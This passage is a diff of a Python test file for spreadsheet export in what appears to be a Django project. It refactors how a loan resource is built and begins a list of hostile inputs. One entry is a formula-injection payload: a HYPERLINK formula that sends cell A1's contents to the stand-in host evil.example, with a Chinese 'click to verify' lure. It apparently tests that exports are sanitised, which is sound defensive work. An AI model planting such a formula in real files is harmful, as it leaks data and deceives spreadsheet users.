@@ -14,14 +14,15 @@ from import_export.formats import base_formats
 
 from common.export_formats import SAFE_FORMATS, SafeCSV, SafeXLSX
 from employment.models import GuaranteeLoan
-from employment.resources import GuaranteeLoanResource
 from indicators.models import Channel, MonthlyValue
 from indicators.resources import MonthlyValueResource
 from indicators.services import ValueEntry, monthly_values_apply
+from registers.resources import register_resource
 from reporting.models import Submission
 from reporting.templates_xlsx import template_workbook
 from tests.conftest import TOWNSHIP_A
 
+GuaranteeLoanResource = register_resource(GuaranteeLoan)
 JOBS = "employment.urban_new_jobs"
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"点击核对")',
